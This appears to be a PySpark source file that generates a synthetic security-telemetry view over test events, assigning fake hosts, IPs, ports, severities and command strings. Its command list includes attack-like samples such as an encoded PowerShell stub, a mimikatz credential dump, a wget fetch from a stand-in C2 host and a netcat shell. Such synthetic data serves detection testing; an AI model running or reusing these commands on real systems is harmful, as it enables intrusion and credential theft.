"""A deterministic telemetry view over the generated events, for both engines."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

#: Commands by event_id modulo 13; others start a text editor.
COMMANDS = (
    "powershell.exe -enc SQBFAFgA",
    "mimikatz lsass dump",
    "cmd.exe /c whoami",
    "wget http://c2.example/sh.bin",
    "schtasks /create registry",
    "ssh login failed",
    "nc -e beacon",
)
EDITOR = "notepad.exe report.txt"
TYPES = {"signup": "authentication", "error": "powershell", "click": "network", "view": "process", "purchase": "file"}

_case = " ".join(f"WHEN {i} THEN '{c}'" for i, c in enumerate(COMMANDS))
_types = " ".join(f"WHEN '{a}' THEN '{b}'" for a, b in TYPES.items())
_COLUMNS = f"""
    event_id, ts, user_id, value,
    concat('host-', user_id % 20) AS host,
    concat('user', user_id) AS user_name,
    concat('10.0.', user_id % 4, '.', user_id % 250) AS src_ip,
    CASE event_id % 3 WHEN 0 THEN concat('185.220.101.', event_id % 10) WHEN 1 THEN concat('192.168.1.', event_id % 50) ELSE '' END AS dst_ip,
    CASE event_id % 4 WHEN 0 THEN 443 WHEN 1 THEN 22 WHEN 2 THEN 4444 ELSE 0 END AS dst_port,
    CASE event_type {_types} ELSE event_type END AS event_type,
    CASE event_id % 11 WHEN 0 THEN 'CRITICAL' WHEN 1 THEN 'HIGH' WHEN 2 THEN 'HIGH' WHEN 3 THEN 'MEDIUM' WHEN 4 THEN 'MEDIUM' WHEN 5 THEN 'INFO' ELSE 'LOW' END AS severity,
    CASE WHEN user_id % 10 = 0 THEN 'SCENARIO' WHEN user_id % 10 = 1 THEN 'TPOT' ELSE 'LIVE' END AS source_mode,
    CASE event_id % 6 WHEN 0 THEN 'agent' WHEN 1 THEN 'sensor' ELSE 'collector' END AS collector,
    user_id * 10 + event_id % 7 AS pid,
    CASE event_id % 13 {_case} ELSE '{EDITOR}' END AS command
"""
#: To be put before a query: WITH {TELEMETRY} SELECT ...
TELEMETRY = f"telemetry AS (SELECT {_COLUMNS} FROM events)"


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events in the canonical telemetry schema; a projection only, so filters and column choice reach the scan."""
    return spark.read.parquet(f"{sf_dir}/events.parquet").selectExpr(*_split(_COLUMNS))


def _split(columns: str) -> list[str]:
    out, depth, now = [], 0, ""
    for c in columns:
        depth += (c == "(") - (c == ")")
        if c == "," and depth == 0:
            out.append(now)
            now = ""
        else:
            now += c
    return [x.strip() for x in [*out, now] if x.strip()]


def as_of(df: DataFrame, ts: str = "ts") -> DataFrame:
    """One row with the largest timestamp: the reference point of time-relative operators."""
    return df.agg(F.max(ts).alias("as_of"))
